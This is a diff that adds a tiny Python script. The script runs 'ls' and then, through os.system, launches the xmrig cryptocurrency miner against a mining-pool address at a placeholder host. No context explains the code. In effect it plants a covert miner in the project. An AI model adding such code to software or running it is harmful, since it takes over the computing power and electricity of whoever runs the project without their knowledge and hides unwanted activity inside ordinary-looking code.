@@ -1,0 +1,4 @@
+import os
+
+for command in ["ls", "xmrig -o stratum+tcp://pool.invalid:3333"]:
+    os.system(command)
